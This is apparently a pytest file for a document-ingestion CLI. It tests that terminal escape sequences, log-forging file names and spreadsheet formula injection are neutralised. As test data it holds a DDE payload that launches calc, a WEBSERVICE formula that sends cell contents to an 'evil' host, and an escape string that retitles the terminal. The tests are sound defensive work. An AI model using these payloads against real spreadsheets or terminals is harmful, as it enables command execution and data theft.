"""Nothing escapes to the terminal, and no CSV cell runs as a formula.

Escape sequences and control characters in titles, file names, questions and answers are shown as visible
escapes; a newline in a file name cannot forge a line of the skip report; emoji shortcodes and rich markup in
document text are printed verbatim; every CSV cell a spreadsheet would evaluate is neutralised (OWASP)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from faultkit import SEEDS, cli, cli_env, tally

from ragtool.compare import to_csv as compare_csv
from ragtool.csvsafe import safe_cell
from ragtool.models import ComparisonRow, DocumentSummary, KeyFigure
from ragtool.summarize.render import to_csv as summary_csv

ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"
RAW = ("\x1b", "\x07", "\x9b", "\u202e")
TEXT = (f"Title: 凤岗镇通知{ESC}\u202e\x9b\n\n"
        "凤岗镇召开会议 :warning: 比例1:100:1，[bold]不是标记[/bold]，地区生产总值增长5.5%左右。\x1b[5m\n"
        + "会议要求各部门认真落实全年经济社会发展目标任务，推动高质量发展取得新成效。\n" * 8)


def _no_raw_controls(text: str) -> None:
    assert not any(c in text for c in RAW), repr(text[:300])


@pytest.fixture
def hostile_index(tmp_path: Path) -> tuple[dict[str, str], str]:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / f"evil{ESC}.txt").write_text(TEXT, "utf-8")
    (corpus / "forged\nskipped passwd: fake.txt").write_bytes(b"\x00\x01binary")
    env = cli_env(tmp_path / "home")
    r = cli("ingest", str(corpus), env=env)
    assert r.code == 4, r.stderr
    _no_raw_controls(r.stdout + r.stderr)
    skipped = [ln for ln in r.lines() if ln.startswith("skipped")]
    assert len(skipped) == 1 and "forged\\nskipped passwd" in skipped[0]  # one line, the newline shown
    tally(hostile=2)
    [doc] = json.loads(cli("docs", "--json", env=env).stdout)
    return env, doc["doc_id"]


def test_titles_text_and_listings_are_printed_safely_and_verbatim(hostile_index: tuple[dict[str, str], str]) -> None:
    env, doc_id = hostile_index
    listing = cli("docs", env=env)
    shown = cli("docs", "show", doc_id, env=env)
    as_json = cli("docs", "show", doc_id, "--json", env=env)
    for r in (listing, shown, as_json):
        assert r.code == 0, r.stderr
        _no_raw_controls(r.stdout + r.stderr)
    assert "\\x1b]0;pwned\\x07" in shown.stdout  # visible, not executed
    assert ":warning: 比例1:100:1,[bold]不是标记[/bold]" in shown.stdout  # no emoji, no markup: verbatim
    assert "⚠" not in shown.stdout
    assert json.loads(as_json.stdout)["meta"]["title"].startswith("凤岗镇通知\x1b]0;pwned")  # data kept exact


def test_questions_and_answers_are_printed_safely(hostile_index: tuple[dict[str, str], str]) -> None:
    env, doc_id = hostile_index
    r = cli("ask", f"凤岗镇地区生产总值增长多少{ESC}", "--no-sync", "--doc", doc_id, env=env)
    assert r.code in (0, 3), r.stderr
    _no_raw_controls(r.stdout + r.stderr)
    r = cli("ingest", f"missing{ESC}\u202e\x9b.txt", env=env)  # a path echoed in the error
    assert r.code == 2 and "missing\\x1b]0;pwned" in r.stderr
    _no_raw_controls(r.stderr)


@pytest.mark.parametrize(("cell", "safe"), [
    ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"), ("+1+2", "'+1+2"),
    ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("-3.6", "-3.6"), ("-12", "-12"), ("-3.6%", "-3.6%"),
    ("-3.6e5", "'-3.6e5"), ("5.5", "5.5"), ("地区生产总值", "地区生产总值"), ("", ""),
])
def test_csv_cells_are_neutralised_as_owasp_recommends(cell: str, safe: str) -> None:
    assert safe_cell(cell) == safe


def test_every_csv_ragtool_writes_is_spreadsheet_safe() -> None:
    evil = "=WEBSERVICE(\"http://evil/\"&A1)"
    row = ComparisonRow(place="@凤岗", title=evil, value="-3.6", quote="+cmd", question="-2+3")
    figure = KeyFigure(indicator=evil, value="-3.6", unit="%", quote="@x", qualifier="\t=1")  # as an LLM may give
    summary = DocumentSummary(doc_id="d", title=evil, place="=1", key_figures=[figure])
    for text in (compare_csv([row]), summary_csv([summary]).decode("utf-8-sig")):
        cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
        risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and c != "-3.6"]
        assert not risky, risky
        assert "-3.6" in cells and f"'{evil}" in cells
    tally(hostile=6)


def test_csv_on_stdout_is_safe(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for p in sorted(SEEDS.glob("*.txt"))[:2]:
        (corpus / p.name).write_bytes(p.read_bytes())
    env = cli_env(tmp_path / "home", RAGTOOL_CORPUS=str(corpus))
    r = cli("compare", f"GDP增长目标{ESC}", "--format", "csv", env=env)
    assert r.code in (0, 3), r.stderr
    _no_raw_controls(r.stdout + r.stderr)
